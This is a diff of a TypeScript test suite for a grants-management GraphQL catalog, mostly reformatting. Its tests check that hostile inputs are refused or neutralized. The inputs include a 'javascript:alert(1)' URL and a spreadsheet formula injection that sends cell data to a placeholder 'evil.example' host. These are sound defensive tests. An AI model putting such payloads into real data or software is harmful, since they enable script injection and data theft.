@@ -41,7 +41,8 @@ afterAll(async () => {
 
 const SOURCE = { title: 'Grants QSMO marketplace, federal shelf', url: 'https://www.usaspending.gov/grants-qsmo/marketplace' };
 const PROVENANCE = { sources: [SOURCE], verification: 'CONFIRMED' };
-const PAYLOAD = '{ offering { id version name category website launchedOn notes partners { id } sources { title url } } change { id version changedFields } userErrors { field message code } }';
+const PAYLOAD =
+  '{ offering { id version name category website launchedOn notes partners { id } sources { title url } } change { id version changedFields } userErrors { field message code } }';
 const CREATE = `mutation ($input: CreateGrantsManagementOfferingInput!) { createGrantsManagementOffering(input: $input) ${PAYLOAD} }`;
 const UPDATE = `mutation ($input: UpdateGrantsManagementOfferingInput!) { updateGrantsManagementOffering(input: $input) ${PAYLOAD} }`;
 const SET_CAPABILITIES = `mutation ($input: SetGrantsManagementOfferingCapabilitiesInput!) { setGrantsManagementOfferingCapabilities(input: $input) ${PAYLOAD} }`;
@@ -52,9 +53,14 @@ const DETAIL = `query Detail($id: ID!) { grantsManagement { offering(id: $id) {
   provider { id name } partners { id name } capabilities { code name }
   customerLinks { agency { code name } asOf customerAsStated statedOn { value from to } caveat verification sources { title url } }
 } } }`;
-const HISTORY = 'query History($id: ID!) { grantsManagement { offering(id: $id) { version history { id version changedFields before after sources { url } } } } }';
+const HISTORY =
+  'query History($id: ID!) { grantsManagement { offering(id: $id) { version history { id version changedFields before after sources { url } } } } }';
 
-interface Payload { offering: any; change: any; userErrors: { field: string[] | null; message: string; code: string }[] }
+interface Payload {
+  offering: any;
+  change: any;
+  userErrors: { field: string[] | null; message: string; code: string }[];
+}
 
 /** Sends a mutation as the Grants editor and returns its payload; a GraphQL error (a crash, a TypeError) fails the test. */
 async function mutate(document: string, input: Record<string, unknown>): Promise<Payload> {
@@ -94,18 +100,60 @@ describe('hostile edits are refused with a userError naming the field and the li
     ['launchedOn 9999-99-99', UPDATE, upd({ launchedOn: '9999-99-99' }), ['input', 'launchedOn'], 'INVALID', /YYYY-MM-DD, a real calendar day/],
     ['launchedOn 2021-13-01', UPDATE, upd({ launchedOn: '2021-13-01' }), ['input', 'launchedOn'], 'INVALID', /YYYY-MM-DD, a real calendar day/],
     ['launchedOn in year 9999', UPDATE, upd({ launchedOn: '9999-12-31' }), ['input', 'launchedOn'], 'INVALID', /between 1900-01-01 and \d{4}-\d{2}-\d{2}/],
-    ['a 100 000-character source title', UPDATE, upd(sources([{ title: long(100_000), url: 'https://example.gov/a' }])), ['input', 'provenance', 'sources', '0', 'title'], 'INVALID', /more than 300/],
-    ['a javascript: source url', UPDATE, upd(sources([{ title: 'page', url: 'javascript:alert(1)' }])), ['input', 'provenance', 'sources', '0', 'url'], 'SOURCE_REQUIRED', /http\(s\) URL/],
-    ['a 5000-character source url', UPDATE, upd(sources([{ title: 'page', url: `https://example.gov/${long(5_000)}` }])), ['input', 'provenance', 'sources', '0', 'url'], 'INVALID', /more than 1000/],
-    ['11 sources in one change', UPDATE, upd(sources(Array.from({ length: 11 }, (_, i) => ({ title: `page ${i}`, url: `https://example.gov/${i}` })))), ['input', 'provenance', 'sources'], 'INVALID', /at most 10 sources/],
+    [
+      'a 100 000-character source title',
+      UPDATE,
+      upd(sources([{ title: long(100_000), url: 'https://example.gov/a' }])),
+      ['input', 'provenance', 'sources', '0', 'title'],
+      'INVALID',
+      /more than 300/,
+    ],
+    [
+      'a javascript: source url',
+      UPDATE,
+      upd(sources([{ title: 'page', url: 'javascript:alert(1)' }])),
+      ['input', 'provenance', 'sources', '0', 'url'],
+      'SOURCE_REQUIRED',
+      /http\(s\) URL/,
+    ],
+    [
+      'a 5000-character source url',
+      UPDATE,
+      upd(sources([{ title: 'page', url: `https://example.gov/${long(5_000)}` }])),
+      ['input', 'provenance', 'sources', '0', 'url'],
+      'INVALID',
+      /more than 1000/,
+    ],
+    [
+      '11 sources in one change',
+      UPDATE,
+      upd(sources(Array.from({ length: 11 }, (_, i) => ({ title: `page ${i}`, url: `https://example.gov/${i}` })))),
+      ['input', 'provenance', 'sources'],
+      'INVALID',
+      /at most 10 sources/,
+    ],
     ['21 partners', UPDATE, upd({ partnerIds: Array.from({ length: 21 }, (_, i) => `p${i}`) }), ['input', 'partnerIds'], 'INVALID', /at most 20 partners/],
     ['a 10 000-character provider id', UPDATE, upd({ providerId: long(10_000) }), ['input', 'providerId'], 'INVALID', /at most 100 characters/],
-    ['101 FIBF codes', SET_CAPABILITIES, { id, version: 1, capabilityCodes: Array.from({ length: 101 }, () => 'GRM.030.010'), provenance: PROVENANCE }, ['input', 'capabilityCodes'], 'INVALID', /at most 100 FIBF entries/],
+    [
+      '101 FIBF codes',
+      SET_CAPABILITIES,
+      { id, version: 1, capabilityCodes: Array.from({ length: 101 }, () => 'GRM.030.010'), provenance: PROVENANCE },
+      ['input', 'capabilityCodes'],
+      'INVALID',
+      /at most 100 FIBF entries/,
+    ],
     ['a listing dated 2021-02-30', ADD_LISTING, listing({ asOf: '2021-02-30' }), ['input', 'asOf'], 'INVALID', /not a calendar day/],
     ['a listing dated 10 000 characters', ADD_LISTING, listing({ asOf: long(10_000) }), ['input', 'asOf'], 'INVALID', /is no date/],
     ['a listing dated FY9999', ADD_LISTING, listing({ asOf: 'FY9999' }), ['input', 'asOf'], 'INVALID', /between 1900-01-01 and/],
     ['a 501-character customer as stated', ADD_LISTING, listing({ customerAsStated: long(501) }), ['input', 'customerAsStated'], 'INVALID', /more than 500/],
-    ['a 10 000-character offering id', ADD_LISTING, listing({ offeringId: `grm-${long(10_000)}` }), ['input', 'offeringId'], 'INVALID', /at most 100 characters/],
+    [
+      'a 10 000-character offering id',
+      ADD_LISTING,
+      listing({ offeringId: `grm-${long(10_000)}` }),
+      ['input', 'offeringId'],
+      'INVALID',
+      /at most 100 characters/,
+    ],
   ];
 
   beforeAll(async () => {
@@ -125,9 +173,12 @@ describe('hostile edits are refused with a userError naming the field and the li
     expect(read.history.map((c) => c.id)).toEqual([`${id}@1`]);
   });
 
-  test('an impossible day in the audit trail\'s since is BAD_USER_INPUT, not a day rolled over into March', async () => {
+  test("an impossible day in the audit trail's since is BAD_USER_INPUT, not a day rolled over into March", async () => {
     const answer = await editing.gql('{ grantsManagement { changes(since: "2021-02-30") { totalCount } } }', {}, analyst);
-    expect(answer.body.errors?.[0]).toMatchObject({ message: expect.stringContaining('is not an ISO date or date-time'), extensions: { code: 'BAD_USER_INPUT' } });
+    expect(answer.body.errors?.[0]).toMatchObject({
+      message: expect.stringContaining('is not an ISO date or date-time'),
+      extensions: { code: 'BAD_USER_INPUT' },
+    });
   });
 });
 
@@ -135,24 +186,63 @@ describe('null in an input field means "clear" for an optional field and is a us
   const id = 'grm-null-fields';
 
   test('create with every optional field null', async () => {
-    const created = await create(id, { category: null, partnerIds: null, capabilityCodes: null, website: null, launchedOn: null, notes: null, idempotencyKey: null });
+    const created = await create(id, {
+      category: null,
+      partnerIds: null,
+      capabilityCodes: null,
+      website: null,
+      launchedOn: null,
+      notes: null,
+      idempotencyKey: null,
+    });
     expect(created.offering).toMatchObject({ id, version: 1, category: null, website: null, launchedOn: null, notes: null, partners: [] });
   });
 
   test.each(['name', 'shelf', 'providerId', 'partnerIds'])('update with %s: null is INVALID, saying to leave it out', async (field) => {
     const payload = await mutate(UPDATE, { id, version: 1, [field]: null, provenance: PROVENANCE });
-    expect(payload.userErrors).toEqual([{ field: ['input', field], code: 'INVALID', message: `${field} cannot be cleared: leave it out to keep it, or give a new value.` }]);
+    expect(payload.userErrors).toEqual([
+      { field: ['input', field], code: 'INVALID', message: `${field} cannot be cleared: leave it out to keep it, or give a new value.` },
+    ]);
   });
 
   test('update with category, website, launchedOn, notes and idempotencyKey null clears the four fields', async () => {
-    const set = await mutate(UPDATE, { id, version: 1, category: 'Award Management', website: 'https://example.gov', launchedOn: '2021-07-29', notes: 'A note', provenance: PROVENANCE });
+    const set = await mutate(UPDATE, {
+      id,
+      version: 1,
+      category: 'Award Management',
+      website: 'https://example.gov',
+      launchedOn: '2021-07-29',
+      notes: 'A note',
+      provenance: PROVENANCE,
+    });
     expect(set.userErrors).toEqual([]);
-    const cleared = await mutate(UPDATE, { id, version: 2, category: null, website: null, launchedOn: null, notes: null, idempotencyKey: null, provenance: PROVENANCE });
-    expect(cleared).toMatchObject({ offering: { version: 3, category: null, website: null, launchedOn: null, notes: null }, change: { changedFields: ['category', 'launchedOn', 'notes', 'website'] }, userErrors: [] });
+    const cleared = await mutate(UPDATE, {
+      id,
+      version: 2,
+      category: null,
+      website: null,
+      launchedOn: null,
+      notes: null,
+      idempotencyKey: null,
+      provenance: PROVENANCE,
+    });
+    expect(cleared).toMatchObject({
+      offering: { version: 3, category: null, website: null, launchedOn: null, notes: null },
+      change: { changedFields: ['category', 'launchedOn', 'notes', 'website'] },
+      userErrors: [],
+    });
   });
 
   test('a listing with asOf, customerAsStated and idempotencyKey null is an undated listing', async () => {
-    const added = await mutate(ADD_LISTING, { offeringId: id, version: 3, agencyCode: '075', asOf: null, customerAsStated: null, idempotencyKey: null, provenance: PROVENANCE });
+    const added = await mutate(ADD_LISTING, {
+      offeringId: id,
+      version: 3,
+      agencyCode: '075',
+      asOf: null,
+      customerAsStated: null,
+      idempotencyKey: null,
+      provenance: PROVENANCE,
+    });
     expect(added).toMatchObject({ offering: { version: 4 }, userErrors: [] });
   });
 });
@@ -171,13 +261,22 @@ describe('a change that changes nothing is refused with UNCHANGED: no version bu
     ];
     for (const [document, input] of noOps) {
       const payload = await mutate(document, input);
-      expect(payload).toMatchObject({ offering: null, change: null, userErrors: [{ field: ['input'], code: 'UNCHANGED', message: expect.stringContaining('stays at version 2') }] });
+      expect(payload).toMatchObject({
+        offering: null,
+        change: null,
+        userErrors: [{ field: ['input'], code: 'UNCHANGED', message: expect.stringContaining('stays at version 2') }],
+      });
     }
     const read = await history(id);
     expect(read.version).toBe(2);
     expect(read.history).toHaveLength(2);
     // A new source alone is a change: the record gains it.
-    const sourced = await mutate(UPDATE, { id, version: 2, notes: 'Same', provenance: { sources: [{ title: 'HHS page', url: 'https://www.hhs.gov/grants' }], verification: 'CONFIRMED' } });
+    const sourced = await mutate(UPDATE, {
+      id,
+      version: 2,
+      notes: 'Same',
+      provenance: { sources: [{ title: 'HHS page', url: 'https://www.hhs.gov/grants' }], verification: 'CONFIRMED' },
+    });
     expect(sourced).toMatchObject({ change: { version: 3, changedFields: ['sources'] }, userErrors: [] });
   });
 });
@@ -203,7 +302,11 @@ describe('what an offering and its audit trail hold stays bounded however many e
     const editTimes: number[] = [];
     for (let edit = 1; edit <= EDITS; edit++) {
       const sources = Array.from({ length: CATALOG_LIMITS.sourcesPerChange }, (_, i) => bigSource(edit, i));
-      const answer = await editing.gql(UPDATE, { input: { id, version: edit, notes: `Edit ${edit}`, provenance: { sources, verification: 'CONFIRMED' } } }, editor);
+      const answer = await editing.gql(
+        UPDATE,
+        { input: { id, version: edit, notes: `Edit ${edit}`, provenance: { sources, verification: 'CONFIRMED' } } },
+        editor,
+      );
       expect(answer.body.data.updateGrantsManagementOffering.userErrors).toEqual([]);
       editTimes.push(answer.ms);
     }
@@ -223,7 +326,11 @@ describe('what an offering and its audit trail hold stays bounded however many e
     expect(last.ms).toBeLessThan(BOUND_MS);
 
     // Every record of the audit trail keeps only what its change made differ; the whole trail reads through the gateway at once.
-    const trail = await editing.gql(`{ grantsManagement { changes(first: 100) { totalCount edges { node { id changedFields before after sources { url } } } } } }`, {}, analyst);
+    const trail = await editing.gql(
+      `{ grantsManagement { changes(first: 100) { totalCount edges { node { id changedFields before after sources { url } } } } } }`,
+      {},
+      analyst,
+    );
     expect(trail.status).toBe(200);
     expect(trail.body.errors).toBeUndefined();
     const records = trail.body.data.grantsManagement.changes.edges.map((e: any) => e.node).filter((n: any) => n.id.startsWith(`${id}@`));
@@ -253,7 +360,12 @@ describe('text a spreadsheet would run as a formula leaves the graph neutralized
   afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
 
   beforeAll(async () => {
-    await create(id, { name: NAME, category: CATEGORY, notes: NOTES, provenance: { sources: [{ title: TITLE, url: 'https://example.gov/formula' }], verification: 'UNVERIFIED' } });
+    await create(id, {
+      name: NAME,
+      category: CATEGORY,
+      notes: NOTES,
+      provenance: { sources: [{ title: TITLE, url: 'https://example.gov/formula' }], verification: 'UNVERIFIED' },
+    });
     const listed = await mutate(ADD_LISTING, { offeringId: id, version: 1, agencyCode: '075', customerAsStated: AS_STATED, provenance: PROVENANCE });
     expect(listed.userErrors).toEqual([]);
   });
@@ -267,12 +379,19 @@ describe('text a spreadsheet would run as a formula leaves the graph neutralized
     const p = 'grantsManagement.offering';
     // The raw line: quoted as RFC 4180 needs (the name holds quotes and commas), the quote inside.
     expect(r.stdout.split('\r\n')[1]).toBe(`${id},"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",'${CATEGORY},'${NOTES},2,'${TITLE}`);
-    expect(parseCsv(r.stdout, 'formula.csv')).toEqual([{
-      [`${p}.id`]: id, [`${p}.name`]: `'${NAME}`, [`${p}.category`]: `'${CATEGORY}`, [`${p}.notes`]: `'${NOTES}`, [`${p}.version`]: '2', [`${p}.sources.title`]: `'${TITLE}`,
-    }]);
+    expect(parseCsv(r.stdout, 'formula.csv')).toEqual([
+      {
+        [`${p}.id`]: id,
+        [`${p}.name`]: `'${NAME}`,
+        [`${p}.category`]: `'${CATEGORY}`,
+        [`${p}.notes`]: `'${NOTES}`,
+        [`${p}.version`]: '2',
+        [`${p}.sources.title`]: `'${TITLE}`,
+      },
+    ]);
   });
 
-  test('catalog:export (the real command on the subgraph\'s database) neutralizes them too, and the export imports back as no change', async () => {
+  test("catalog:export (the real command on the subgraph's database) neutralizes them too, and the export imports back as no change", async () => {
     const grants = DOMAINS.find((d) => d.definition.serviceName === 'grants-management')!.definition;
     const db = editing.graph.subgraphs['grants-management']!.database.db;
     const out = path.join(dir, 'export');
@@ -282,7 +401,9 @@ describe('text a spreadsheet would run as a formula leaves the graph neutralized
         env: { ...process.env, MONGODB_URI: testMongoUri(), GRANTS_MANAGEMENT_MONGODB_DATABASE: db.databaseName },
       });
       let stderr = '';
-      child.stderr.setEncoding('utf8').on('data', (c: string) => { stderr += c; });
+      child.stderr.setEncoding('utf8').on('data', (c: string) => {
+        stderr += c;
+      });
       child.on('error', reject);
       child.on('close', (status) => resolve({ status, stderr }));
     });
